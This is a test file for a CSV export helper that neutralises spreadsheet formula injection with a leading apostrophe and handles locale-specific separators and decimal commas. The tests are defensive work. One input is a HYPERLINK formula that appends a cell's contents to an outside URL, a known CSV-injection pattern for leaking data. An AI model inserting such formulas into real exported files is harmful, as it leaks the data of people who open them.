import { describe, expect, it } from 'vitest';
import { csvCell, csvFile, csvLine } from './csv.ts';

describe('csv', () => {
  it('neutralises text a spreadsheet would read as a formula, with a leading apostrophe (OWASP)', () => {
    for (const text of ['=1+1', '+1', '-1.5', '@SUM(A1)', '\t=1', '\r=1']) expect(csvCell(text).replace(/^"|"$/g, '')).toMatch(/^'/);
    expect(csvCell('=HYPERLINK("https://x/?"&B2,"Xem")')).toBe('"\'=HYPERLINK(""https://x/?""&B2,""Xem"")"');
    expect(csvCell('Trường THCS Tân Lập')).toBe('Trường THCS Tân Lập');
    expect(csvCell('Lê Văn A - tổ trưởng')).toBe('Lê Văn A - tổ trưởng');
  });

  it('keeps numbers we computed as numbers, negative ones included, and quotes separators', () => {
    expect(csvLine([1, -1.5, 0, null, undefined, Number.NaN, 'a,b', 'x;y', 'có "ngoặc"', 'hai\ndòng'], 'intl')).toBe(
      '1,-1.5,0,,,,"a,b","x;y","có ""ngoặc""","hai\ndòng"',
    );
  });

  it('writes by default what Excel on a Vietnamese-locale PC splits into columns: ";" between cells, a decimal comma', () => {
    expect(csvLine([1, -1.5, 7.25, 10000, 'Trường THCS Tân Lập, xã Hòa Bình', 'x;y', '-2+3'])).toBe(
      '1;-1,5;7,25;10000;"Trường THCS Tân Lập, xã Hòa Bình";"x;y";\'-2+3',
    );
  });

  it('writes a BOM and CRLF lines', () => {
    const file = csvFile(['A', 'B'], [[1.5, '=x']]);
    expect([...file.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(file.subarray(3).toString('utf8')).toBe("A;B\r\n1,5;'=x\r\n");
    expect(
      csvFile(['A', 'B'], [[1.5, '=x']], 'intl')
        .subarray(3)
        .toString('utf8'),
    ).toBe("A,B\r\n1.5,'=x\r\n");
  });
});
